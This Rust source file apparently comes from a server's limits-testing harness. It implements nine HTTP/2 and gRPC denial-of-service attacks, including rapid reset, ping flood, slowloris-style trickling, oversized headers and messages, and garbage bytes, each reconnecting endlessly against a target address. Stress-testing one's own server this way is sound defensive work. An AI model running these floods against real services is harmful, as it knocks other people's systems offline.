//! What a peer may try, one function for each; each goes on until it is dropped.

use std::time::Duration;

use tokio::{
    task::JoinSet,
    time::{interval, sleep},
};

use crate::raw::{END_HEADERS, END_STREAM, PREFACE, Raw, SIGN_OUT, call_headers, frame, header_block, kind};

/// An abuse, and what it is called in the table of docs/limits.md.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Attack {
    /// Connections that never say a word, and connections that only greet.
    IdleConnections,
    /// Calls that are begun and reset at once, one after another.
    RapidReset,
    /// Calls without end whose answers are never read.
    NeverReads,
    /// Calls whose bytes come one a second.
    OneByteASecond,
    /// Bytes that mean nothing.
    Garbage,
    /// Calls with a megabyte of headers.
    HugeHeader,
    /// Calls with a message of many megabytes.
    HugeMessage,
    /// The first bytes of HTTP/2, one a second.
    SlowPreface,
    /// Pings, as fast as they can be written.
    PingFlood,
}

impl Attack {
    /// Begins it over so many connections, and returns when they have all been made once.
    pub(crate) async fn launch(self, address: &str, connections: usize) -> JoinSet<()> {
        let mut peers = JoinSet::new();
        for n in 0..connections {
            // The first connection is made here, so that the attack has begun when this returns.
            let first = Raw::try_connect(address).await.ok();
            let address = address.to_owned();
            peers.spawn(async move {
                let mut next = first;
                loop {
                    let raw = match next.take() {
                        Some(raw) => Some(raw),
                        None => Raw::try_connect(&address).await.ok(),
                    };
                    if let Some(mut raw) = raw {
                        // Cut off, it comes again.
                        let _cut_off = self.act(&mut raw, n).await;
                    }
                    sleep(self.pause()).await;
                }
            });
        }
        peers
    }

    /// From being cut off to coming again.
    fn pause(self) -> Duration {
        match self {
            // It is their number that is the abuse, not how fast they come.
            Self::IdleConnections | Self::OneByteASecond | Self::SlowPreface => Duration::from_secs(5),
            _ => Duration::from_millis(100),
        }
    }

    async fn act(self, raw: &mut Raw, n: usize) -> std::io::Result<()> {
        match self {
            Self::IdleConnections => {
                if n.is_multiple_of(2) {
                    raw.greet().await?;
                }
                raw.ends_within(Duration::from_secs(3600)).await;
            }
            Self::RapidReset => {
                raw.greet().await?;
                for stream in streams() {
                    raw.send(&call(stream, &message(b""))).await?;
                    raw.send(&frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())).await?;
                }
            }
            Self::NeverReads => {
                raw.greet().await?;
                for stream in streams() {
                    raw.send(&call(stream, &message(b""))).await?;
                }
            }
            Self::OneByteASecond => {
                raw.greet().await?;
                let all = call(1, &message(&[b'x'; 3600]));
                raw.send(&all[..all.len() - 3600]).await?;
                trickle(raw, &all[all.len() - 3600..]).await?;
            }
            Self::Garbage => {
                let noise: Vec<u8> = (0..64 * 1024).map(|_| fastrand::u8(..)).collect();
                if n.is_multiple_of(2) {
                    raw.greet().await?;
                }
                loop {
                    raw.send(&noise).await?;
                }
            }
            Self::HugeHeader => {
                raw.greet().await?;
                let block =
                    [call_headers(SIGN_OUT), header_block(&[("x-padding", &"x".repeat(1 << 20))])].concat();
                let mut chunks = block.chunks(16 * 1024).peekable();
                let mut next = kind::HEADERS;
                while let Some(chunk) = chunks.next() {
                    let last = if chunks.peek().is_none() { END_HEADERS } else { 0 };
                    raw.send(&frame(next, last, 1, chunk)).await?;
                    next = kind::CONTINUATION;
                }
                raw.ends_within(Duration::from_secs(1)).await;
            }
            Self::HugeMessage => {
                raw.greet().await?;
                raw.send(&frame(kind::HEADERS, END_HEADERS, 1, &call_headers(SIGN_OUT))).await?;
                let chunk = message(&vec![b'x'; 16 * 1024 - 5]);
                for _ in 0..1024 {
                    raw.send(&frame(kind::DATA, 0, 1, &chunk)).await?;
                }
            }
            Self::SlowPreface => trickle(raw, PREFACE).await?,
            Self::PingFlood => {
                raw.greet().await?;
                let pings = frame(kind::PING, 0, 0, &[7; 8]).repeat(1000);
                loop {
                    raw.send(&pings).await?;
                }
            }
        }
        Ok(())
    }
}

/// The numbers of a client's streams.
fn streams() -> impl Iterator<Item = u32> {
    (1..u32::MAX >> 1).step_by(2)
}

/// A whole call.
pub(crate) fn call(stream: u32, message: &[u8]) -> Vec<u8> {
    [
        frame(kind::HEADERS, END_HEADERS, stream, &call_headers(SIGN_OUT)),
        frame(kind::DATA, END_STREAM, stream, message),
    ]
    .concat()
}

/// A message as gRPC frames it.
pub(crate) fn message(bytes: &[u8]) -> Vec<u8> {
    [&[0], &u32::try_from(bytes.len()).unwrap().to_be_bytes()[..], bytes].concat()
}

async fn trickle(raw: &mut Raw, bytes: &[u8]) -> std::io::Result<()> {
    let mut second = interval(Duration::from_secs(1));
    for byte in bytes {
        second.tick().await;
        raw.send(&[*byte]).await?;
    }
    Ok(())
}
